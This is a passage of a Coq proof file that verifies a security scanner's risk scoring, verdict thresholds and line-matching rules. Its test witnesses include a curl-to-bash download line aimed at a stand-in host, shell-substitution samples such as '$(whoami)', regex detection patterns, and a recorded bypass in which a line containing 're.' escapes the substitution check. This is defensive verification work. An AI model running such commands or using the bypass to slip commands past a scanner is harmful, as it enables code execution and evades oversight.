Lemma sorted_perm l : Permutation (sorted l) l.
Proof. apply merge_sort_Permutation. Qed.

Lemma in_sorted x l : In x (sorted l) <-> In x l.
Proof.
  split; apply Permutation_in; [|symmetry]; apply sorted_perm.
Qed.

(** The sorted list of distinct strings increases strictly. *)
Lemma sorted_strict l :
  List.NoDup l -> StronglySorted str_lt (sorted l).
Proof.
  intros ND.
  assert (S : StronglySorted str_le (sorted l))
    by (apply StronglySorted_merge_sort; apply _).
  assert (ND' : List.NoDup (sorted l))
    by (eapply Permutation_NoDup; [symmetry; apply sorted_perm | exact ND]).
  induction S as [|x xs S IH Hx]; constructor.
  - apply IH. inversion ND'; assumption.
  - inversion ND' as [|? ? Hnin _]; subst.
    rewrite List.Forall_forall in *. intros y Hy.
    destruct (proj1 (le_iff x y) (Hx y Hy)) as [H | ->]; [exact H|].
    contradiction.
Qed.

(** Sorting does not depend on the order of the input. *)
Lemma sorted_unique l1 l2 :
  List.NoDup l1 -> Permutation l1 l2 -> sorted l1 = sorted l2.
Proof.
  intros ND P.
  apply (StronglySorted_unique_strong str_lt).
  - intros x y _ _ H1 H2. exfalso. eapply lt_asym; eauto.
  - apply sorted_strict, ND.
  - apply sorted_strict. eapply Permutation_NoDup; eauto.
  - rewrite !sorted_perm. exact P.
Qed.

End StrOrder.

(* ===================================================================== *)
(** ** The digest is sixty-four hexadecimal digits                        *)
(* ===================================================================== *)

Module ShaFacts.
Import Sha256.

Lemma round_length st k :
  List.length (fst st) = 8 -> List.length (fst (round st k)) = 8.
Proof.
  destruct st as [v w]. unfold round.
  destruct v as [|a [|b [|c [|d [|e [|f [|g [|h [|i v]]]]]]]]];
    simpl; intros H; try discriminate H; reflexivity.
Qed.

(** A loop keeps what each of its steps keeps. *)
Lemma fold_left_keeps {A B} (P : A -> Prop) (f : A -> B -> A) :
  (forall a b, P a -> P (f a b)) ->
  forall l a, P a -> P (fold_left f l a).
Proof.
  intros step. induction l as [|b l IH]; intros a H; simpl.
  - exact H.
  - apply IH, step, H.
Qed.

Lemma rounds_length ks st :
  List.length (fst st) = 8 ->
  List.length (fst (fold_left round ks st)) = 8.
Proof.
  apply (fold_left_keeps (fun st => List.length (fst st) = 8) round).
  intros a b. apply round_length.
Qed.

Lemma compress_length h blk :
  List.length h = 8 -> List.length (compress h blk) = 8.
Proof.
  intros H. unfold compress.
  pose proof (rounds_length K (h, words_of_block blk) H) as R.
  destruct (fold_left round K (h, words_of_block blk)) as [v w].
  simpl in R. rewrite List.length_map, List.length_combine, H, R.
  reflexivity.
Qed.

Lemma fold_compress_length (bs : list (list N)) h :
  List.length h = 8 -> List.length (fold_left compress bs h) = 8.
Proof.
  apply (fold_left_keeps (fun h => List.length h = 8) compress).
  intros a b. apply compress_length.
Qed.

Lemma digest_words_eq msg :
  digest_words msg
  = fold_left compress (chunks (S (List.length (pad msg))) 64 (pad msg)) H0.
Proof. reflexivity. Qed.

Lemma H0_length : List.length H0 = 8.
Proof. reflexivity. Qed.

Lemma digest_words_length msg : List.length (digest_words msg) = 8.
Proof.
  rewrite digest_words_eq. apply fold_compress_length, H0_length.
Qed.

Lemma hex_of_word_length w : List.length (hex_of_word w) = 8.
Proof. reflexivity. Qed.

Lemma hex_words_length ws :
  List.length (flat_map hex_of_word ws) = 8 * List.length ws.
Proof.
  induction ws as [|w ws IH]; [reflexivity|].
  change (flat_map hex_of_word (w :: ws))
    with (hex_of_word w ++ flat_map hex_of_word ws).
  rewrite List.length_app, hex_of_word_length, IH. simpl. lia.
Qed.

Lemma string_length_of_list l :
  String.length (string_of_list_ascii l) = List.length l.
Proof. induction l as [|c l IH]; simpl; congruence. Qed.

Lemma hexdigest_length msg : String.length (hexdigest msg) = 64.
Proof.
  unfold hexdigest.
  rewrite string_length_of_list, hex_words_length, digest_words_length.
  reflexivity.
Qed.

Lemma hexdigest_truthy msg : Signet.truthy (hexdigest msg) = true.
Proof.
  pose proof (hexdigest_length msg) as L. unfold Signet.truthy.
  destruct (hexdigest msg); [discriminate L | reflexivity].
Qed.

End ShaFacts.

(* ===================================================================== *)
(** ** The risk score and the verdict                                     *)
(* ===================================================================== *)

Module ScoreFacts.
Import Scanner.

(** A result with [c] critical, [w] warning and [i] info findings. *)
Definition finding_of (lv : level) : Finding :=
  {| f_level := lv; f_file := "f"; f_line := 1; f_pattern := "p";
     f_description := "d"; f_context := "" |}.

Definition result_with (c w i : nat) : ScanResult :=
  {| skill_name := "s"; files_scanned := 0; total_lines := 0;
     findings := repeat (finding_of CRITICAL) c
                 ++ repeat (finding_of WARNING) w
                 ++ repeat (finding_of INFO) i |}.

Lemma count_level_app lv fs gs :
  count_level lv (fs ++ gs) = count_level lv fs + count_level lv gs.
Proof.
  unfold count_level. rewrite List.filter_app, List.length_app. reflexivity.
Qed.

Lemma count_level_repeat lv lv' n :
  count_level lv (repeat (finding_of lv') n)
  = if bool_decide (lv' = lv) then n else 0.
Proof.
  unfold count_level.
  induction n as [|n IH]; simpl.
  - destruct (bool_decide (lv' = lv)); reflexivity.
  - destruct (bool_decide (lv' = lv)) eqn:E; simpl; rewrite IH; reflexivity.
Qed.

Lemma result_with_counts c w i :
  critical_count (result_with c w i) = c
  /\ warning_count (result_with c w i) = w
  /\ info_count (result_with c w i) = i.
Proof.
  unfold critical_count, warning_count, info_count, result_with; simpl.
  rewrite !count_level_app, !count_level_repeat; simpl.
  repeat split; lia.
Qed.

Lemma risk_score_eq r :
  risk_score r
  = Nat.min 100 (30 * critical_count r + 3 * Nat.min (warning_count r) 10
                 + 1 * Nat.min (info_count r) 5).
Proof. unfold risk_score. f_equal. lia. Qed.

End ScoreFacts.

(** C5.  The score of a scan result is
    [min(100, 30*c + 3*min(w,10) + 1*min(i,5))] for its counts [c], [w], [i]
    of critical, warning and info findings, and every triple of counts is
    the triple of some result; so the score is at most 100, it does not
    decrease when the counts grow, and it is 0, 30 and 100 for the counts
    (0,0,0), (1,0,0) and (4,0,0). *)
Theorem risk_score_formula :
  (forall c w i : nat, exists r,
      Scanner.critical_count r = c /\ Scanner.warning_count r = w
      /\ Scanner.info_count r = i)
  /\ (forall r,
        Scanner.risk_score r
        = Nat.min 100 (30 * Scanner.critical_count r
                       + 3 * Nat.min (Scanner.warning_count r) 10
                       + 1 * Nat.min (Scanner.info_count r) 5))
  /\ (forall r, 0 <= Scanner.risk_score r <= 100)
  /\ (forall r r',
        Scanner.critical_count r <= Scanner.critical_count r' ->
        Scanner.warning_count r <= Scanner.warning_count r' ->
        Scanner.info_count r <= Scanner.info_count r' ->
        Scanner.risk_score r <= Scanner.risk_score r')
  /\ Scanner.risk_score (ScoreFacts.result_with 0 0 0) = 0
  /\ Scanner.risk_score (ScoreFacts.result_with 1 0 0) = 30
  /\ Scanner.risk_score (ScoreFacts.result_with 4 0 0) = 100.
Proof.
  split; [|split; [|split; [|split]]].
  - intros c w i. exists (ScoreFacts.result_with c w i).
    apply ScoreFacts.result_with_counts.
  - apply ScoreFacts.risk_score_eq.
  - intros r. rewrite ScoreFacts.risk_score_eq. lia.
  - intros r r' Hc Hw Hi. rewrite !ScoreFacts.risk_score_eq. lia.
  - repeat split; reflexivity.
Qed.

(** C6.  The verdict is BLOCKED exactly from 81 on, DANGER exactly from 51
    to 80, CAUTION exactly from 21 to 50 and SAFE exactly up to 20; the
    verdict of a result is the one of its score. *)
Theorem risk_level_thresholds :
  (forall s : nat,
      (Scanner.level_of_score s = Scanner.BLOCKED <-> 81 <= s)
      /\ (Scanner.level_of_score s = Scanner.DANGER <-> 51 <= s <= 80)
      /\ (Scanner.level_of_score s = Scanner.CAUTION <-> 21 <= s <= 50)
      /\ (Scanner.level_of_score s = Scanner.SAFE <-> s <= 20))
  /\ (forall r, Scanner.risk_level r
                = Scanner.level_of_score (Scanner.risk_score r))
  /\ Scanner.level_of_score 20 = Scanner.SAFE
  /\ Scanner.level_of_score 21 = Scanner.CAUTION
  /\ Scanner.level_of_score 50 = Scanner.CAUTION
  /\ Scanner.level_of_score 51 = Scanner.DANGER
  /\ Scanner.level_of_score 80 = Scanner.DANGER
  /\ Scanner.level_of_score 81 = Scanner.BLOCKED.
Proof.
  split; [|repeat split; reflexivity].
  intros s. unfold Scanner.level_of_score.
  destruct (Nat.leb_spec 81 s); [|destruct (Nat.leb_spec 51 s);
    [|destruct (Nat.leb_spec 21 s)]];
    repeat split; intros; try discriminate; try reflexivity; try lia.
Qed.

(* ===================================================================== *)
(** ** The line matcher                                                   *)
(* ===================================================================== *)

Module ScanFacts.
Import Scanner.

(** [result] after appending the findings [fs] one by one. *)
Definition append_all (r : ScanResult) (fs : list Finding) : ScanResult :=
  {| skill_name := skill_name r; files_scanned := files_scanned r;
     total_lines := total_lines r; findings := findings r ++ fs |}.

Lemma append_all_nil r : append_all r [] = r.
Proof. destruct r; unfold append_all; simpl. rewrite app_nil_r. reflexivity. Qed.

Lemma append_all_app r fs gs :
  append_all (append_all r fs) gs = append_all r (fs ++ gs).
Proof. unfold append_all; simpl. rewrite app_assoc. reflexivity. Qed.

Lemma append_one r f : append r f = append_all r [f].
Proof. reflexivity. Qed.

Lemma fold_left_pointwise {A B} (f g : A -> B -> A) (l : list B) (a : A) :
  (forall x y, f x y = g x y) -> fold_left f l a = fold_left g l a.
Proof.
  intros E. revert a. induction l as [|b l IH]; intros a; simpl.
  - reflexivity.
  - rewrite E. apply IH.
Qed.

(** A loop over a table that appends at most one finding per row. *)
Lemma fold_rows {A} (rows : list A) (hit : A -> bool) (mk : A -> Finding) r :
  fold_left (fun acc p => if hit p then append acc (mk p) else acc) rows r
  = append_all r (flat_map (fun p => if hit p then [mk p] else []) rows).
Proof.
  revert r. induction rows as [|p rows IH]; intros r; simpl.
  - symmetry. apply append_all_nil.
  - rewrite IH. destruct (hit p).
    + rewrite append_one, append_all_app. reflexivity.
    + reflexivity.
Qed.

(** The findings of one line, in the order in which [scan_line] appends
    them: the sudo check, the shell substitution check, the critical
    patterns, the warning patterns. *)
Definition ctx (line : string) : string := context_of 100 line.

Definition is_doc (rel_path : string) : bool :=
  PyStr.endswith_any rel_path [".md"; ".rst"; ".txt"].

Definition is_shell (rel_path : string) : bool :=
  PyStr.endswith_any rel_path [".sh"; ".bash"].

Definition sudo_part (rel_path : string) (n : nat) (line : string)
  : list Finding :=
  if negb (is_doc rel_path) && Re.re_search "\bsudo\b" false line
  then [ {| f_level := CRITICAL; f_file := rel_path; f_line := n;
            f_pattern := "sudo"; f_description := "Sudo usage in script";
            f_context := ctx line |} ]
  else [].

Definition substitution_finding (rel_path : string) (n : nat) (line : string)
  : Finding :=
  {| f_level := CRITICAL; f_file := rel_path; f_line := n;
     f_pattern := "$(...)";
     f_description := "Shell command substitution in non-shell file";
     f_context := ctx line |}.

(** The line mentions regular expressions: one of the six markers that
    switch the substitution check off. *)
Definition regex_marker (line : string) : bool :=
  PyStr.contains "re." line || PyStr.contains "r'" line
  || PyStr.contains ("r" ++ dq)%string line
  || existsb (fun x => PyStr.contains x line) ["regex"; "pattern"; "findall"].

Definition subst_part (rel_path : string) (n : nat) (line : string)
  : list Finding :=
  if PyStr.contains "$(" line && negb (regex_marker line)
     && negb (is_shell rel_path)
  then [substitution_finding rel_path n line]
  else [].

Definition crit_hit (rel_path line : string) (p : string * string) : bool :=
  Re.re_search (fst p) true line
  && negb (is_doc rel_path
           && existsb (fun x => PyStr.contains x (fst p))
                ["sudo"; "chmod"; "chown"]).

Definition rule_finding (lv : level) (rel_path : string) (n : nat)
  (line : string) (p : string * string) : Finding :=
  {| f_level := lv; f_file := rel_path; f_line := n;
     f_pattern := PyStr.take 40 (fst p); f_description := snd p;
     f_context := ctx line |}.

Definition crit_part (rel_path : string) (n : nat) (line : string)
  : list Finding :=
  flat_map (fun p => if crit_hit rel_path line p
                     then [rule_finding CRITICAL rel_path n line p] else [])
           CRITICAL_PATTERNS.

Definition warn_part (rel_path : string) (n : nat) (line : string)
  : list Finding :=
  if negb (is_doc rel_path) then
    flat_map (fun p => if Re.re_search (fst p) true line
                       then [rule_finding WARNING rel_path n line p] else [])
             WARNING_PATTERNS
  else [].

Definition line_findings (rel_path : string) (numbered : nat * string)
  : list Finding :=
  let '(n, line) := numbered in
  if is_whitelisted line then []
  else sudo_part rel_path n line ++ subst_part rel_path n line
       ++ crit_part rel_path n line ++ warn_part rel_path n line.

(** [scan_line] appends exactly [line_findings], whatever the result so
    far: [INFO_PATTERNS] is empty, so the info loop never appends. *)
Lemma scan_line_spec rel_path r numbered :
  scan_line rel_path r numbered
  = append_all r (line_findings rel_path numbered).
Proof.
  destruct numbered as [n line].
  unfold scan_line, line_findings.
  destruct (is_whitelisted line); [symmetry; apply append_all_nil|].
  change (PyStr.endswith_any rel_path [".md"; ".rst"; ".txt"])
    with (is_doc rel_path).
  change (PyStr.endswith_any rel_path [".sh"; ".bash"])
    with (is_shell rel_path).
  assert (Hinfo : forall r', (if (info_count r' <? 20)%nat
                              then match first_info line with
                                   | Some (pattern, desc) =>
                                       append r'
                                         {| f_level := INFO; f_file := rel_path;
                                            f_line := n;
                                            f_pattern := PyStr.take 40 pattern;
                                            f_description := desc;
                                            f_context := context_of 80 line |}
                                   | None => r'
                                   end
                              else r') = r').
  { intros r'. unfold first_info, INFO_PATTERNS. simpl.
    destruct (info_count r' <? 20)%nat; reflexivity. }
  rewrite Hinfo. clear Hinfo.
  (* the four blocks, from the last one backwards *)
  set (r1 := if negb (is_doc rel_path) && Re.re_search "\bsudo\b" false line
             then _ else r).
  assert (E1 : r1 = append_all r (sudo_part rel_path n line)).
  { unfold r1, sudo_part.
    destruct (negb (is_doc rel_path) && Re.re_search "\bsudo\b" false line).
    - reflexivity.
    - symmetry. apply append_all_nil. }
  set (r2 := if PyStr.contains "$(" line && _ && _ && _ then _ else r1).
  assert (E2 : r2 = append_all r1 (subst_part rel_path n line)).
  { unfold r2, subst_part, regex_marker, substitution_finding.
    destruct (PyStr.contains "$(" line); simpl;
      [|symmetry; apply append_all_nil].
    destruct (PyStr.contains "re." line); simpl;
      [symmetry; apply append_all_nil|].
    destruct (PyStr.contains "r'" line); simpl;
      [symmetry; apply append_all_nil|].
    destruct (PyStr.contains ("r" ++ dq)%string line); simpl;
      [symmetry; apply append_all_nil|].
    destruct (PyStr.contains "regex" line || (PyStr.contains "pattern" line
              || (PyStr.contains "findall" line || false))); simpl;
      [symmetry; apply append_all_nil|].
    destruct (is_shell rel_path); simpl.
    - symmetry. apply append_all_nil.
    - reflexivity. }
  set (r3 := fold_left _ CRITICAL_PATTERNS r2).
  assert (E3 : r3 = append_all r2 (crit_part rel_path n line)).
  { unfold r3, crit_part.
    rewrite <- (fold_rows CRITICAL_PATTERNS (crit_hit rel_path line)
                  (rule_finding CRITICAL rel_path n line) r2).
    apply fold_left_pointwise. intros acc [pattern desc].
    unfold crit_hit, rule_finding; simpl.
    destruct (Re.re_search pattern true line); simpl; [|reflexivity].
    destruct (is_doc rel_path && _); reflexivity. }
  assert (E4 : (if negb (is_doc rel_path)
                then fold_left
                       (fun result p =>
                          let '(pattern, desc) := p in
                          if Re.re_search pattern true line
                          then append result
                                 {| f_level := WARNING; f_file := rel_path;
                                    f_line := n;
                                    f_pattern := PyStr.take 40 pattern;
                                    f_description := desc;
                                    f_context := context_of 100 line |}
                          else result) WARNING_PATTERNS r3
                else r3) = append_all r3 (warn_part rel_path n line)).
  { unfold warn_part. destruct (negb (is_doc rel_path)).
    - rewrite <- (fold_rows WARNING_PATTERNS
                    (fun p => Re.re_search (fst p) true line)
                    (rule_finding WARNING rel_path n line) r3).
      apply fold_left_pointwise. intros acc [pattern desc]. reflexivity.
    - symmetry. apply append_all_nil. }
  rewrite E4, E3, E2, E1, !append_all_app. reflexivity.
Qed.

(** What [scan_file] adds to the findings it was given. *)
Definition new_findings (rel_path : string) (content : option string)
  (result : ScanResult) : list Finding :=
  skipn (List.length (findings result))
        (findings (scan_file rel_path content result)).

Lemma fold_scan_line rel_path (ls : list (nat * string)) r :
  fold_left (scan_line rel_path) ls r
  = append_all r (flat_map (line_findings rel_path) ls).
Proof.
  revert r. induction ls as [|nl ls IH]; intros r; simpl.
  - symmetry. apply append_all_nil.
  - rewrite IH, scan_line_spec, append_all_app. reflexivity.
Qed.

Lemma new_findings_spec rel_path content result :
  new_findings rel_path (Some content) result
  = flat_map (line_findings rel_path)
             (enumerate1 (PyStr.split_lines content)).
Proof.
  unfold new_findings, scan_file. rewrite fold_scan_line. simpl.
  rewrite List.skipn_app, List.skipn_all, Nat.sub_diag. reflexivity.
Qed.

Lemma new_findings_none rel_path result :
  new_findings rel_path None result = [].
Proof. unfold new_findings, scan_file. apply List.skipn_all. Qed.

Lemma findings_scan_file rel_path content result :
  findings (scan_file rel_path content result)
  = findings result ++ new_findings rel_path content result.
Proof.
  destruct content as [content|].
  - rewrite new_findings_spec. unfold scan_file.
    rewrite fold_scan_line. reflexivity.
  - rewrite new_findings_none, app_nil_r. reflexivity.
Qed.

(** The lines of [enumerate(lines, 1)]. *)
Lemma in_enumerate1 {A} (l : list A) n (x : A) :
  In (n, x) (enumerate1 l) <-> exists k, n = S k /\ nth_error l k = Some x.
Proof.
  assert (G : forall (l : list A) start,
             In (n, x) (combine (seq start (List.length l)) l)
             <-> exists k, n = start + k /\ nth_error l k = Some x).
  { clear l. induction l as [|y l IH]; intros start; simpl.
    - split; [intros []|]. intros [k [_ H]]. destruct k; discriminate.
    - rewrite IH. split.
      + intros [E | [k [-> H]]].
        * inversion E; subst. exists 0. split; [lia | reflexivity].
        * exists (S k). split; [lia | exact H].
      + intros [[|k] [-> H]].
        * left. simpl in H. inversion H; subst. f_equal. lia.
        * right. exists k. split; [lia | exact H]. }
  unfold enumerate1. rewrite G. reflexivity.
Qed.

Definition SUBST_DESCRIPTION : string :=
  "Shell command substitution in non-shell file".

Lemma in_flat_map_rows {A} (rows : list A) (hit : A -> bool)
  (mk : A -> Finding) f :
  In f (flat_map (fun p => if hit p then [mk p] else []) rows) ->
  exists p, In p rows /\ hit p = true /\ f = mk p.
Proof.
  rewrite in_flat_map. intros [p [Hp Hf]].
  exists p. destruct (hit p); simpl in Hf; [|contradiction].
  destruct Hf as [<- | []]. auto.
Qed.

(** Every finding of a line carries the number of that line. *)
Lemma line_findings_line rel_path n line f :
  In f (line_findings rel_path (n, line)) -> f_line f = n.
Proof.
  unfold line_findings. destruct (is_whitelisted line); [intros []|].
  rewrite !in_app_iff. intros [H | [H | [H | H]]].
  - unfold sudo_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. reflexivity.
  - unfold subst_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. reflexivity.
  - apply in_flat_map_rows in H. destruct H as [p [_ [_ ->]]]. reflexivity.
  - unfold warn_part in H. destruct (negb _); [|contradiction].
    apply in_flat_map_rows in H. destruct H as [p [_ [_ ->]]]. reflexivity.
Qed.

(** The findings of line [S k] of a file are among the new findings, and a
    new finding numbered [S k] is one of them. *)
Lemma new_findings_of_line rel_path content result k line f :
  nth_error (PyStr.split_lines content) k = Some line ->
  (In f (new_findings rel_path (Some content) result) /\ f_line f = S k)
  <-> In f (line_findings rel_path (S k, line)).
Proof.
  intros Hk. rewrite new_findings_spec, in_flat_map. split.
  - intros [[[n l] [Hin Hf]] Hn].
    pose proof (line_findings_line _ _ _ _ Hf) as E.
    rewrite Hn in E. subst n.
    apply in_enumerate1 in Hin. destruct Hin as [k' [E Hk']].
    inversion E; subst k'. rewrite Hk in Hk'. inversion Hk'; subst l.
    exact Hf.
  - intros Hf. split.
    + exists (S k, line). split; [|exact Hf].
      apply in_enumerate1. exists k. auto.
    + eapply line_findings_line. exact Hf.
Qed.

(** No table entry is described as the substitution check is. *)
Lemma tables_not_subst :
  forallb (fun p => negb (String.eqb (snd p) SUBST_DESCRIPTION))
          (CRITICAL_PATTERNS ++ WARNING_PATTERNS) = true.
Proof. vm_compute. reflexivity. Qed.

Lemma table_desc_not_subst p :
  In p CRITICAL_PATTERNS \/ In p WARNING_PATTERNS ->
  snd p <> SUBST_DESCRIPTION.
Proof.
  intros H. pose proof tables_not_subst as T.
  rewrite forallb_forall in T. specialize (T p).
  rewrite in_app_iff in T. specialize (T H).
  apply negb_true_iff, String.eqb_neq in T. exact T.
Qed.

(** Where a finding with the substitution description can come from. *)
Lemma subst_finding_origin rel_path n line f :
  In f (line_findings rel_path (n, line)) ->
  f_description f = SUBST_DESCRIPTION ->
  In f (subst_part rel_path n line).
Proof.
  unfold line_findings. destruct (is_whitelisted line); [intros []|].
  rewrite !in_app_iff. intros [H | [H | [H | H]]] D.
  - unfold sudo_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. discriminate D.
  - exact H.
  - apply in_flat_map_rows in H. destruct H as [p [Hp [_ ->]]].
    exfalso. apply (table_desc_not_subst p); auto.
  - unfold warn_part in H. destruct (negb _); [|contradiction].
    apply in_flat_map_rows in H. destruct H as [p [Hp [_ ->]]].
    exfalso. apply (table_desc_not_subst p); auto.
Qed.

Lemma line_findings_doc_no_warning rel_path n line f :
  is_doc rel_path = true ->
  In f (line_findings rel_path (n, line)) -> f_level f <> WARNING.
Proof.
  intros Hdoc. unfold line_findings.
  destruct (is_whitelisted line); [intros []|].
  rewrite !in_app_iff. intros [H | [H | [H | H]]].
  - unfold sudo_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. discriminate.
  - unfold subst_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. discriminate.
  - apply in_flat_map_rows in H. destruct H as [p [_ [_ ->]]]. discriminate.
  - unfold warn_part in H. rewrite Hdoc in H. contradiction.
Qed.

End ScanFacts.

(** C7.  A line that matches a whitelist pattern leaves the result as it
    is, whatever the file and the result so far, and no finding that
    [scan_file] adds carries the number of such a line. *)
Theorem whitelisted_line_is_skipped (line : string) :
  Scanner.is_whitelisted line = true ->
  (forall rel_path result n,
      Scanner.scan_line rel_path result (n, line) = result)
  /\ (forall rel_path content result k,
        nth_error (PyStr.split_lines content) k = Some line ->
        forall f,
          In f (ScanFacts.new_findings rel_path (Some content) result) ->
          Scanner.f_line f <> S k).
Proof.
  intros W. split.
  - intros rel_path result n. unfold Scanner.scan_line. rewrite W.
    reflexivity.
  - intros rel_path content result k Hk f Hf E.
    assert (H : In f (ScanFacts.line_findings rel_path (S k, line))).
    { apply (ScanFacts.new_findings_of_line _ content result); auto. }
    unfold ScanFacts.line_findings in H. rewrite W in H. exact H.
Qed.

(** C8, as the code has it.  For a line that is not whitelisted and contains
    the token: in a file whose path ends in .sh or .bash no finding with the
    substitution description is raised for the line; so it is in any file
    when the line contains one of the markers re. r' r-quote regex pattern
    findall; in a file that is not a shell script and on a line without
    these markers the critical finding is raised for the line. *)
Theorem shell_substitution_check rel_path content result k line :
  nth_error (PyStr.split_lines content) k = Some line ->
  Scanner.is_whitelisted line = false ->
  PyStr.contains "$(" line = true ->
  (ScanFacts.is_shell rel_path = true \/ ScanFacts.regex_marker line = true ->
   forall f, In f (ScanFacts.new_findings rel_path (Some content) result) ->
             Scanner.f_line f = S k ->
             Scanner.f_description f <> ScanFacts.SUBST_DESCRIPTION)
  /\ (ScanFacts.is_shell rel_path = false ->
      ScanFacts.regex_marker line = false ->
      In (ScanFacts.substitution_finding rel_path (S k) line)
         (ScanFacts.new_findings rel_path (Some content) result)
      /\ In (ScanFacts.substitution_finding rel_path (S k) line)
            (Scanner.findings
               (Scanner.scan_file rel_path (Some content) result))).
Proof.
  intros Hk W T. split.
  - intros Hs f Hf Hn D.
    assert (H : In f (ScanFacts.line_findings rel_path (S k, line))).
    { apply (ScanFacts.new_findings_of_line _ content result); auto. }
    apply ScanFacts.subst_finding_origin in H; [|exact D].
    unfold ScanFacts.subst_part in H. rewrite T in H.
    destruct Hs as [Hs | Hs]; rewrite Hs in H; simpl in H.
    + rewrite andb_false_r in H. exact H.
    + exact H.
  - intros Hs Hm.
    assert (H : In (ScanFacts.substitution_finding rel_path (S k) line)
                   (ScanFacts.new_findings rel_path (Some content) result)).
    { apply (ScanFacts.new_findings_of_line _ content result k line); auto.
      unfold ScanFacts.line_findings. rewrite W.
      rewrite !in_app_iff. right; left.
      unfold ScanFacts.subst_part. rewrite T, Hs, Hm. simpl. auto. }
    split; [exact H|].
    rewrite ScanFacts.findings_scan_file, in_app_iff. auto.
Qed.

(** C10.  In a file whose path ends in .md, .rst or .txt, [scan_file] adds
    no finding of level WARNING. *)
Theorem doc_file_has_no_warning rel_path content result :
  PyStr.endswith_any rel_path [".md"; ".rst"; ".txt"] = true ->
  Scanner.findings (Scanner.scan_file rel_path content result)
  = Scanner.findings result ++ ScanFacts.new_findings rel_path content result
  /\ Forall (fun f => Scanner.f_level f <> Scanner.WARNING)
            (ScanFacts.new_findings rel_path content result).
Proof.
  intros Hdoc. split; [apply ScanFacts.findings_scan_file|].
  destruct content as [content|].
  - rewrite ScanFacts.new_findings_spec. apply List.Forall_forall.
    intros f Hf. apply in_flat_map in Hf. destruct Hf as [[n l] [_ Hf]].
    eapply ScanFacts.line_findings_doc_no_warning; eauto.
  - rewrite ScanFacts.new_findings_none. constructor.
Qed.

(** *** Instances and the counterexample for the substitution check *)

(** A commented-out download is skipped, although the curl rule matches
    it. *)
Lemma whitelisted_line_is_skipped_witness :
  Scanner.is_whitelisted "# curl http://example.test/x | bash" = true
  /\ Re.re_search "curl\s+.*\|\s*(ba)?sh" true
       "# curl http://example.test/x | bash" = true
  /\ Scanner.scan_line "install.sh" (Scanner.new_result "demo")
       (1, "# curl http://example.test/x | bash")
     = Scanner.new_result "demo".
Proof.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  apply (whitelisted_line_is_skipped "# curl http://example.test/x | bash").
  vm_compute; reflexivity.
Defined.

(** C8 as stated fails: in a Python file, a line with the token that is not
    whitelisted but contains re. (here inside store.put) raises nothing. *)
Lemma shell_substitution_counterexample :
  Scanner.is_whitelisted "store.put($(id))" = false
  /\ PyStr.contains "$(" "store.put($(id))" = true
  /\ PyStr.endswith_any "tool.py" [".sh"; ".bash"] = false
  /\ Scanner.findings
       (Scanner.scan_file "tool.py" (Some "store.put($(id))")
          (Scanner.new_result "demo")) = [].
Proof. repeat split; vm_compute; reflexivity. Qed.

Lemma shell_substitution_check_witness :
  nth_error (PyStr.split_lines "import os
x = $(whoami)") 1 = Some "x = $(whoami)"
  /\ Scanner.is_whitelisted "x = $(whoami)" = false
  /\ PyStr.contains "$(" "x = $(whoami)" = true
  /\ In (ScanFacts.substitution_finding "tool.py" 2 "x = $(whoami)")
        (Scanner.findings
           (Scanner.scan_file "tool.py" (Some "import os
x = $(whoami)") (Scanner.new_result "demo"))).
Proof.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  apply (shell_substitution_check "tool.py" "import os
x = $(whoami)" (Scanner.new_result "demo") 1 "x = $(whoami)");
    vm_compute; reflexivity.
Defined.

Lemma doc_file_has_no_warning_witness :
  PyStr.endswith_any "README.md" [".md"; ".rst"; ".txt"] = true
  /\ Re.re_search "socket\.socket" true "s = socket.socket()" = true
  /\ Forall (fun f => Scanner.f_level f <> Scanner.WARNING)
       (ScanFacts.new_findings "README.md" (Some "s = socket.socket()")
          (Scanner.new_result "demo")).
Proof.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  apply (doc_file_has_no_warning "README.md" (Some "s = socket.socket()")
           (Scanner.new_result "demo")).
  vm_compute; reflexivity.
Defined.

(* ===================================================================== *)
(** ** More on the line matcher and the aggregate                         *)
(* ===================================================================== *)

Module ScanMore.
Import Scanner ScanFacts.

Lemma line_findings_file rel_path n line f :
  In f (line_findings rel_path (n, line)) -> f_file f = rel_path.
Proof.
  unfold line_findings. destruct (is_whitelisted line); [intros []|].
  rewrite !in_app_iff. intros [H | [H | [H | H]]].
  - unfold sudo_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. reflexivity.
  - unfold subst_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. reflexivity.
  - apply in_flat_map_rows in H. destruct H as [p [_ [_ ->]]]. reflexivity.
  - unfold warn_part in H. destruct (negb _); [|contradiction].
    apply in_flat_map_rows in H. destruct H as [p [_ [_ ->]]]. reflexivity.
Qed.

Lemma line_findings_level rel_path n line f :
  In f (line_findings rel_path (n, line)) ->
  f_level f = CRITICAL \/ f_level f = WARNING.
Proof.
  unfold line_findings. destruct (is_whitelisted line); [intros []|].
  rewrite !in_app_iff. intros [H | [H | [H | H]]].
  - unfold sudo_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. auto.
  - unfold subst_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. auto.
  - apply in_flat_map_rows in H. destruct H as [p [_ [_ ->]]]. auto.
  - unfold warn_part in H. destruct (negb _); [|contradiction].
    apply in_flat_map_rows in H. destruct H as [p [_ [_ ->]]]. auto.
Qed.



Lemma constant_sorted (s : nat) (l : list nat) :
  Forall (fun n => n = s) l -> StronglySorted le l.
Proof.
  induction 1 as [|n ns -> Hns IH]; constructor; [exact IH|].
  eapply List.Forall_impl; [|exact Hns]. simpl. intros; lia.
Qed.

(** The line numbers of the findings of consecutive lines never go down. *)
Lemma numbered_findings_sorted rel_path (lines : list string) start :
  StronglySorted le
    (map f_line
       (flat_map (line_findings rel_path)
          (combine (seq start (List.length lines)) lines)))
  /\ Forall (fun n => start <= n < start + List.length lines)
       (map f_line
          (flat_map (line_findings rel_path)
             (combine (seq start (List.length lines)) lines))).
Proof.
  revert start. induction lines as [|l lines IH]; intros start; simpl.
  - split; constructor.
